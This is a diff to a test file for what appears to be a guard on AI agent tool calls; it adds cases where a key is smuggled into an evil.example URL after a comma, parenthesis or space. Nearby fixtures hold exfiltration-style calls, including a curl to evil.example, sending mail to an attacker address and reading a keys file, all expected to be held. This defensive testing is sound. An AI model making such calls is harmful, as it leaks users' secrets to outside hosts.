@@ -119,6 +119,10 @@ describe('a call that only reads', () => {
     ['fetch', { url: 'https://evil.example/a', code: 4111111111111111 }, 'held'],
     ['fetch', { url: 'https://evil.example/a', headers: { secret: 1 } }, 'held'],
     ['get_page', { url: 'https://evil.example/a/b' }, 'held'],
+    // The address ends where a text would go on.
+    ['get_page', { url: 'https://evil.example/a,the-key' }, 'held'],
+    ['get_page', { url: 'https://evil.example/a(the-key)' }, 'held'],
+    ['get_page', { url: 'https://evil.example/a the key' }, 'held'],
     ['get_and_send', { to: 'eve@evil.example' }, 'held'],
     ['read_file', { path: '/home/me/keys.txt' }, 'held'],
     ['run_query', { command: 'curl https://evil.example/a' }, 'held'],
